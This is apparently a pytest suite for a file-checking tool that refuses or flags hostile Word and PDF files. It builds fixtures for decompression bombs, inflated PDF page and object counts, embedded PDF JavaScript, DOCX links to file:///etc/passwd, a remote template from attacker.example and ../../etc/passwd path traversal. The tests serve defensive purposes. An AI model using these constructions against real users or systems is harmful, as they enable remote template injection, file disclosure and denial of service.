"""Hostile files handed to ``check``: bounded before they are read, and what print shops refuse named by rule."""

from __future__ import annotations

import io
import os
import threading
import time
import zipfile
from collections.abc import Callable
from pathlib import Path

import docx
import pikepdf
import pytest
from docx.opc.constants import RELATIONSHIP_TYPE as RT

from generator.check import bounds
from generator.check.run import check_paths
from tests.hostile.harness import run


def word_file(path: Path) -> Path:
    document = docx.Document()
    document.core_properties.title = "Test"
    document.add_paragraph("Hello")
    document.save(str(path))
    return path


def repack(path: Path, change: Callable[[str, bytes], list[tuple[str, bytes]]]) -> Path:
    """The Word file at ``path`` rewritten, each part replaced by what ``change(name, data)`` gives."""
    with zipfile.ZipFile(path) as package:
        parts = [(info.filename, package.read(info)) for info in package.infolist()]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as package:
        for name, data in parts:
            for new_name, new_data in change(name, data):
                package.writestr(new_name, new_data)
    return path


def padded(part: str, size: int) -> Callable[[str, bytes], list[tuple[str, bytes]]]:
    """A part padded with spaces to ``size`` bytes: megabytes unpacked, kilobytes packed."""
    def change(name: str, data: bytes) -> list[tuple[str, bytes]]:
        return [(name, data + b" " * (size - len(data)) if name == part else data)]
    return change


def extra_parts(count: int, size: int) -> Callable[[str, bytes], list[tuple[str, bytes]]]:
    def change(name: str, data: bytes) -> list[tuple[str, bytes]]:
        more = [(f"word/media/pad{i}.bin", b"\0" * size) for i in range(count)] if name == "[Content_Types].xml" else []
        return [(name, data), *more]
    return change


MB = 1024 * 1024
TEMPLATE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
# name: (how the Word file is spoiled, what the check says)
DOCX_BOMBS: dict[str, tuple[Callable[[str, bytes], list[tuple[str, bytes]]], str]] = {
    "40 MB of spaces in document.xml": (padded("word/document.xml", 40 * MB),
                                        "its part word/document.xml unpacks to 40 MB, over the limit of 32 MB"),
    "40 MB of spaces in styles.xml": (padded("word/styles.xml", 40 * MB), "its part word/styles.xml unpacks to 40"),
    "five parts of 30 MB": (extra_parts(5, 30 * MB), "MB, over the limit of 128 MB that check reads"),
    "3,000 parts": (extra_parts(3000, 1), "parts, over the limit of 2,000 that check reads"),
}


@pytest.mark.parametrize("case", list(DOCX_BOMBS))
def test_a_word_file_that_unpacks_to_too_much_is_refused_unread(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], case: str
) -> None:
    change, message = DOCX_BOMBS[case]
    path = repack(word_file(tmp_path / "bomb.docx"), change)
    assert path.stat().st_size < 2 * MB
    outcome = run(capsys, tmp_path, "check", str(path))
    assert outcome.status == 1
    assert f"{path}: unreadable: " in outcome.out and message in outcome.out, outcome.out


def blank_pages(path: Path, count: int) -> Path:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    page = pdf.pages[0].obj
    kids = pdf.Root.Pages.Kids
    for _ in range(count - 1):  # the same empty content, a page object each: a few bytes per page
        kids.append(pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Page, Parent=pdf.Root.Pages,
                                                         MediaBox=page.MediaBox)))
    pdf.Root.Pages.Count = count
    pdf.save(path)
    return path


def test_a_pdf_of_too_many_pages_is_refused_before_a_page_is_read(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = blank_pages(tmp_path / "pages.pdf", 20_000)
    outcome = run(capsys, tmp_path, "check", str(path))
    assert outcome.status == 1
    assert f"{path}: unreadable: it has 20,000 pages, over the limit of 2,000 that check reads" in outcome.out
    path = blank_pages(tmp_path / "fine.pdf", 3)
    assert "over the limit" not in run(capsys, tmp_path, "check", str(path)).out


def test_a_pdf_of_too_many_objects_is_refused_before_they_are_read(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    buffer = io.BytesIO()
    pdf.save(buffer, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    data = buffer.getvalue()
    size = data[data.rindex(b"/Size"):].split(b"/Size", 1)[1].split()[0].rstrip(b">")
    path = tmp_path / "objects.pdf"
    path.write_bytes(data.replace(b"/Size " + size, b"/Size 2000000", 1))  # what the cross-reference claims
    outcome = run(capsys, tmp_path, "check", str(path))
    assert "it has 2,000,000 objects, over the limit of 200,000 that check reads" in outcome.out, outcome.out


def test_at_most_two_files_are_checked_at_once(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    from generator.check import run as check_run

    running, most, lock = 0, 0, threading.Lock()

    def slow(path: Path) -> list[tuple[str, str]]:
        nonlocal running, most
        with lock:
            running += 1
            most = max(most, running)
        time.sleep(0.2)
        with lock:
            running -= 1
        return []

    monkeypatch.setattr(check_run, "check_pdf", slow)
    files = [blank_pages(tmp_path / f"{n}.pdf", 1) for n in range(6)]
    threads = [threading.Thread(target=check_paths, args=([f],)) for f in files]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert most == bounds.MAX_CHECKS == 2


def test_check_lists_what_it_did_not_check(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    folder = tmp_path / "out"
    folder.mkdir()
    os.mkfifo(folder / "pipe.pdf")
    (folder / "dangling.docx").symlink_to(folder / "nowhere.docx")
    (folder / "device.pdf").symlink_to("/dev/null")
    (folder / "loop.pdf").symlink_to(folder / "loop.pdf")
    blank_pages(folder / "fine.pdf", 1)
    outcome = run(capsys, tmp_path, "check", str(folder))
    lines = outcome.out.splitlines()
    assert f"{folder / 'pipe.pdf'}: not checked: it is a pipe" in lines
    assert f"{folder / 'dangling.docx'}: not checked: it is a symbolic link to {folder / 'nowhere.docx'}, " \
           "which does not exist" in lines
    assert f"{folder / 'device.pdf'}: not checked: it is a symbolic link to /dev/null" in lines
    loop = f"{folder / 'loop.pdf'}: not checked: it is a symbolic link in a loop"
    assert any(line.startswith(loop) for line in lines)
    assert lines[-1].startswith("checked 1 file: ") and lines[-1].endswith(", 4 not checked")
    report = run(capsys, tmp_path, "check", "--json", str(folder)).out
    assert '"why": "not checked: it is a pipe"' in report


def javascript_pdf(path: Path, where: str) -> Path:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    script = pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)")))
    page = pdf.pages[0].obj
    if where == "open action":
        pdf.Root.OpenAction = script
    elif where == "open action, chained":
        pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://a.org"), Next=script)
    elif where == "names tree":
        pdf.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(
            Names=pikepdf.Array([pikepdf.String("x"), script])))
    elif where == "page actions":
        page.AA = pikepdf.Dictionary(O=script)
    elif where == "link":
        page.Annots = pikepdf.Array([pdf.make_indirect(pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=script))])
    elif where == "form field":
        field = pdf.make_indirect(pikepdf.Dictionary(FT=pikepdf.Name.Tx, T=pikepdf.String("name"),
                                                     AA=pikepdf.Dictionary(K=script)))
        pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([field]))
    pdf.save(path)
    return path


JAVASCRIPT = {"open action": "the action run when the file opens", "open action, chained": "the action run when",
              "names tree": "JavaScript name tree", "page actions": "page 1's actions", "link": "a link on page 1",
              "form field": "the form field 'name'"}


@pytest.mark.parametrize("where", list(JAVASCRIPT))
def test_javascript_in_a_pdf_is_a_finding(tmp_path: Path, where: str) -> None:
    report = check_paths([javascript_pdf(tmp_path / "script.pdf", where)])
    found = [f.message for f in report.failures if f.rule == "pdf-javascript"]
    assert len(found) == 1 and JAVASCRIPT[where] in found[0], report.failures
    clean = check_paths([javascript_pdf(tmp_path / "clean.pdf", "nowhere")])
    assert "pdf-javascript" not in {f.rule for f in clean.failures}


def external(path: Path, how: str) -> Path:
    document = docx.Document(str(word_file(path)))
    part = document.part
    if how == "a picture linked from a server":
        part.relate_to("file:///etc/passwd", RT.IMAGE, is_external=True)
    elif how == "a template attached":
        part.part_related_by(RT.SETTINGS).relate_to("http://attacker.example/t.dotm", TEMPLATE, is_external=True)
    elif how == "a hyperlink only":
        part.relate_to("https://example.org/", RT.HYPERLINK, is_external=True)
    document.save(str(path))
    if how == "a part named outside the package":
        rels = b'<Relationship Id="rId99" Type="%s" Target="../../etc/passwd"/></Relationships>' % RT.IMAGE.encode()
        repack(path, lambda name, data: [(name, data.replace(b"</Relationships>", rels)
                                          if name == "word/_rels/document.xml.rels" else data)])
    return path


EXTERNAL = {"a picture linked from a server": "word/_rels/document.xml.rels links a image to file:///etc/passwd",
            "a template attached": "word/_rels/settings.xml.rels links a attachedTemplate to http://attacker",
            "a part named outside the package":
                "word/_rels/document.xml.rels names the part ../../etc/passwd, which is not in the file"}


@pytest.mark.parametrize("how", list(EXTERNAL))
def test_a_word_file_reaching_outside_itself_is_a_finding(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], how: str
) -> None:
    path = external(tmp_path / "linked.docx", how)
    outcome = run(capsys, tmp_path, "check", str(path))
    assert f"{path}: docx-external-relationships: the file reaches outside itself: {EXTERNAL[how]}" in outcome.out
    assert "KeyError" not in outcome.out and outcome.status == 1
    hyperlink = check_paths([external(tmp_path / "fine.docx", "a hyperlink only")])
    assert "docx-external-relationships" not in {f.rule for f in hyperlink.failures}


@pytest.mark.parametrize("text", ["مركز العلوم الصحية", "Vision 中文"])
def test_glyphs_drawn_from_notdef_are_a_finding(tmp_path: Path, text: str) -> None:
    from generator.pdf import writer as pdf_writer
    from generator.pdf.setup import font_config

    path = tmp_path / "boxes.pdf"
    html = f"<html lang=en><title>T</title><style>body {{ font-family: 'Noto Sans' }}</style><p>{text}</p>"
    pdf_writer.weasyprint.HTML(string=html).write_pdf(path, font_config=font_config())  # the bundled fonts only
    found = [f.message for f in check_paths([path]).failures if f.rule == "pdf-notdef-glyphs"]
    first = next(c for c in text if ord(c) > 0x600)
    assert len(found) == 1 and f"U+{ord(first):04X}" in found[0] and "as empty boxes" in found[0], found
    pdf_writer.weasyprint.HTML(string=html.replace(text, "Vision")).write_pdf(tmp_path / "fine.pdf",
                                                                             font_config=font_config())
    assert "pdf-notdef-glyphs" not in {f.rule for f in check_paths([tmp_path / "fine.pdf"]).failures}
